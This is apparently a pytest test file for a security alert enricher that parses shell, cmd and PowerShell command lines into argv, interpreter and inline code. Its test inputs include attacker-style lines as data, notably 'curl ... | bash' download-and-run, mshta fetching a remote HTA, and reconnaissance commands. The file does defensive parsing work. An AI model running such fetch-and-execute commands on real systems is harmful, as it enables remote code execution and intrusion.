"""The command enricher: argv, resolved executable, interpreter, inline code or script file."""

from __future__ import annotations

import pytest

from shellwatch.enrich.command import CommandEnricher, family_of
from shellwatch.events import Alert


def _enriched(alert: Alert) -> Alert:
    CommandEnricher().enrich(alert)
    return {
        key.removeprefix("shellwatch.command."): value for key, value in alert.items() if "command." in key
    }


def test_auditd_shell_run_as_sh_through_a_symlink() -> None:
    got = _enriched(
        {
            "host.os.type": "linux",
            "process.executable": "/usr/bin/dash",
            "process.args": ["sh", "-c", "id; uname -a"],
            "process.command_line": "sh -c id; uname -a",
        }
    )
    assert got == {
        "argv": ["sh", "-c", "id; uname -a"],
        "executable": "/usr/bin/dash",
        "executable_resolved": True,
        "invoked_as": "sh",
        "interpreter": "sh",
        "inline": "id; uname -a",
    }


def test_script_file_is_made_absolute_against_the_working_directory() -> None:
    got = _enriched(
        {
            "process.executable": "/usr/bin/python3.11",
            "process.args": ["python3", "-W", "ignore", "tools/sync.py", "--fast"],
            "process.working_directory": "/opt/app",
        }
    )
    assert got["interpreter"] == "python"
    assert got["script"] == "/opt/app/tools/sync.py"
    assert "inline" not in got


def test_login_shell_argv0_is_not_a_different_program() -> None:
    got = _enriched({"process.executable": "/usr/bin/bash", "process.args": ["-bash"]})
    assert "invoked_as" not in got
    assert "script" not in got and "inline" not in got


def test_windows_command_line_without_args_is_split_the_windows_way() -> None:
    got = _enriched(
        {
            "host.os.type": "windows",
            "process.executable": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "process.command_line": '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" '
            '-NoP -ExecutionPolicy Bypass -File "C:\\Users\\Public\\run me.ps1"',
        }
    )
    assert got["argv"][-1] == "C:\\Users\\Public\\run me.ps1"
    assert got["interpreter"] == "powershell"
    assert got["script"] == "C:\\Users\\Public\\run me.ps1"


@pytest.mark.parametrize(
    ("line", "inline"),
    [
        ('cmd.exe /c "whoami && net user"', "whoami && net user"),
        ("cmd.exe /c whoami & ipconfig /all", "whoami & ipconfig /all"),
        ("cmd /cwhoami", "whoami"),
        ("powershell -nop -w hidden -Command Get-Process", "Get-Process"),
    ],
)
def test_windows_inline_code(line: str, inline: str) -> None:
    got = _enriched({"host.os.type": "windows", "process.command_line": line})
    assert got["inline"] == inline
    assert got["interpreter"] in ("cmd", "powershell")
    assert "executable" not in got  # a bare program name is not a path: nothing to resolve it against


def test_history_line_has_argv_but_no_resolved_executable() -> None:
    got = _enriched({"process.command_line": "curl -s http://x/a.sh | bash"})
    assert got["argv"][0] == "curl"
    assert "executable" not in got
    assert "interpreter" not in got


def test_relative_program_path_is_resolved() -> None:
    got = _enriched({"process.command_line": "./run.sh --now", "process.working_directory": "/tmp/x"})
    assert got["executable"] == "/tmp/x/run.sh"
    assert got["executable_resolved"] is True


def test_mshta_url_is_kept_as_given() -> None:
    got = _enriched(
        {"host.os.type": "windows", "process.command_line": "mshta.exe http://198.51.100.9/a.hta"}
    )
    assert got["script"] == "http://198.51.100.9/a.hta"


def test_nothing_to_say_without_a_command() -> None:
    alert: Alert = {"destination.ip": "192.0.2.1"}
    CommandEnricher().enrich(alert)
    assert alert == {"destination.ip": "192.0.2.1"}


@pytest.mark.parametrize(
    ("program", "family"),
    [
        ("/bin/bash", "sh"),
        ("/usr/bin/busybox", "sh"),
        ("C:\\Windows\\System32\\cmd.exe", "cmd"),
        ("pwsh", "powershell"),
        ("/usr/bin/python3.12", "python"),
        ("C:\\Windows\\System32\\cscript.exe", "wsh"),
        ("/usr/bin/curl", None),
        ("/usr/bin/shred", None),
    ],
)
def test_families(program: str, family: str | None) -> None:
    assert family_of(program) == family
